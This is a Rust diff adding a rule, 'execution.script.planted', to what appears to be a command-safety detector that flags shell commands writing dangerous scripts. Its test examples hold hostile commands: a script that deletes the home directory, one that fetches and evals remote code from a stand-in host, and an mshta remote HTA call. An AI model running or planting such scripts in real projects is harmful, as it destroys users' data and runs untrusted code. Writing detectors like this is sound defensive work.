@@ -5,6 +5,7 @@ use std::collections::BTreeSet;
 use super::{
     Hit, Rule, Scene, Shelf, When,
     flow::{is_local, shown},
+    manifest,
 };
 use crate::{
     effect::{Effect, EffectKind, Kinds},
@@ -180,6 +181,23 @@ static RULES: &[Rule] = &[
         ]),
         fires: &["mshta http://example.com/x.hta"],
         quiet: &["mshta app.hta"],
+        ..EXECUTES
+    },
+    Rule {
+        id: "execution.script.planted",
+        severity: Severity::High,
+        message: "a script is written that does the worst as soon as somebody runs it",
+        remedy: "write out what it is for, and let a person read it before it is kept",
+        when: When::Scene(manifest::plants),
+        fires: &[
+            "echo 'rm -rf \"$HOME\"/*' > scripts/clean.sh",
+            "echo 'eval \"$(curl -fsS https://x.example/env)\"' > scripts/setup.sh",
+        ],
+        quiet: &[
+            "echo 'rm -rf build dist' > scripts/clean.sh",
+            "echo 'rm -rf \"$HOME\"/*' > notes.txt",
+            "echo 'curl -fsS https://x.example/status' > scripts/status.sh",
+        ],
         ..EXECUTES
     },
 ];
